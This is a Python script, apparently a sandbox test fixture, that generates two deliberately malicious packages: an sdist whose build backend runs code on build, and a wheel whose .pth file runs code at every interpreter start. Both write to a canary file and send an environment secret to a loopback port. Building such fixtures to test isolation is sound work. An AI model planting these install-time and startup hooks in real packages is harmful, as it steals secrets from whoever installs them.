"""Makes two packages of a stranger's, whose code tries to get out when it is built and whenever a Python starts:
`evil` from its sources alone, `hook` as a wheel. Arguments: where to, a file outside, a port of loopback."""

import io
import sys
import tarfile
import zipfile

folder, canary, port = sys.argv[1:]

ESCAPE = f"""
import os, socket
def escape(who):
    try:
        with open({canary!r}, "a") as file: file.write(who)
    except OSError: pass
    try:
        with socket.create_connection(("127.0.0.1", {port}), 2) as peer:
            peer.sendall((who + " knows " + os.environ.get("CANARY_SECRET", "nothing")).encode())
    except OSError: pass
"""

BACKEND = ESCAPE + """
import zipfile
escape("backend")
def build_wheel(directory, config_settings=None, metadata_directory=None):
    escape("build")
    name = "evil-1.0-py3-none-any.whl"
    told = "secret" if "CANARY_SECRET" in os.environ else "no secret"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        wheel.writestr("evil.py", "BUILT = %r" % told)
        info = "evil-1.0.dist-info/"
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "RECORD", "")
    return name
"""

PROJECT = """
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"""

with tarfile.open(folder + "/evil-1.0.tar.gz", "w:gz") as archive:
    files = {"pyproject.toml": PROJECT, "backend.py": BACKEND,
             "PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"}
    for name, text in files.items():
        data = text.encode()
        info = tarfile.TarInfo("evil-1.0/" + name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))

with zipfile.ZipFile(folder + "/hook-1.0-py3-none-any.whl", "w") as wheel:
    wheel.writestr("hook.pth", "import hooked\n")
    wheel.writestr("hooked.py", ESCAPE + 'import sys\nescape("hook")\nsys.hooked = True\n')
    info = "hook-1.0.dist-info/"
    wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: hook\nVersion: 1.0\n")
    wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr(info + "RECORD", "")
